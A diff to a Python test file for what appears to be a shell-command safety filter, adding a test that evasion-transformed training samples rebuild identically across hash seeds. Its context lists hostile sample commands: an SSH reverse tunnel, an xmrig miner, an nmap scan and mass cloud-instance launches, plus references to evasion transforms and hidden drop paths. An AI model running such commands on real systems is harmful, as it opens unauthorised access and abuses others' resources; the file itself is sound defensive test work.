@@ -9,6 +9,7 @@ import random
 import re
 import shutil
 import subprocess
+import sys
 import tempfile
 import time
 from contextlib import contextmanager
@@ -23,7 +24,8 @@ from safefilter.training.transforms import FAMILIES, HELDOUT_FAMILIES, evade, tr
 
 ATTACKS = ("ssh -R 9000:localhost:22 user@203.0.113.7", "xmrig -o pool.example:3333 -u WALLET",
            "nmap -sS 10.0.0.0/24", "aws ec2 run-instances --image-id ami-1 --count 20")
-HARMLESS_LINES = ("printf '%s\\n' hello world", "echo safe-marker 123", "printf '%s\\n' b a | sort; echo \"it's $((2 + 3))\"")
+HARMLESS_LINES = ("printf '%s\\n' hello world", "echo safe-marker 123",
+                  "printf '%s\\n' b a | sort; echo \"it's $((2 + 3))\"")
 _DATA = yaml.safe_load((Path(transforms.__file__).parent / "transforms.yaml").read_text(encoding="utf-8"))
 _DROP_PATHS = [p.replace("{{name}}", n) for p in _DATA["hidden_paths"] if p.startswith("/")
                for n in [*_DATA["hidden_names"], *(f"_v{i}" for i in range(4))]]  # where a sample may drop a file
@@ -245,3 +247,12 @@ def test_shell_words_finds_command_names_and_refuses_what_it_cannot_follow() -> 
     assert simple_words("printf '%s\\n' \"a b\" $(date)") == ("printf", "'%s\\n'", '"a b"', "$(date)")
     assert simple_words("echo a > f") is None and simple_words("x=1") is None
     assert defined_functions("k() { :; }; function m { :; }") == {"k", "m"}
+
+
+def test_outputs_do_not_depend_on_string_hashing() -> None:
+    """Training data must rebuild bit for bit: no set order may leak into the random draws."""
+    code = ("import random,sys;from safefilter.training.transforms import FAMILIES,evade;"
+            "print([evade(c,random.Random(s),families=set(FAMILIES)) for s in range(60) for c in sys.argv[1:]])")
+    outs = {subprocess.run([sys.executable, "-c", code, *ATTACKS], capture_output=True, text=True, check=True,
+                           env={**os.environ, "PYTHONHASHSEED": seed}).stdout for seed in ("1", "2")}
+    assert len(outs) == 1
